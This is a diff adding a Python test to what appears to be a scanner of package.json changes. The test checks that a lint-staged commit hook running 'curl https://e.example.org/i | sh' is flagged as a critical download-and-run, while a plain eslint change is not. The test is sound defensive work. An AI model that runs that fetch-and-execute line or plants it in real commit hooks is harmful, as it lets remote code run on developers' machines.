@@ -325,3 +325,9 @@ def test_a_large_file_is_read_in_time() -> None:
     old, new = (json.dumps({"scripts": many, "dependencies": {**many, "x": text}}).encode() for text in ("1", "2"))
     with within(2):
         assert len(list(package_json.diff(old, new))) == 1
+
+
+def test_what_runs_on_a_commit_is_told_where_it_downloads() -> None:
+    one, other = ({"lint-staged": {"*": command}} for command in ("eslint", "curl https://e.example.org/i | sh"))
+    assert said(package_json, with_changes(one), with_changes(other)) == ["critical download-and-run lint-staged"]
+    assert said(package_json, with_changes(one), with_changes({"lint-staged": {"*": "eslint --fix"}})) == []
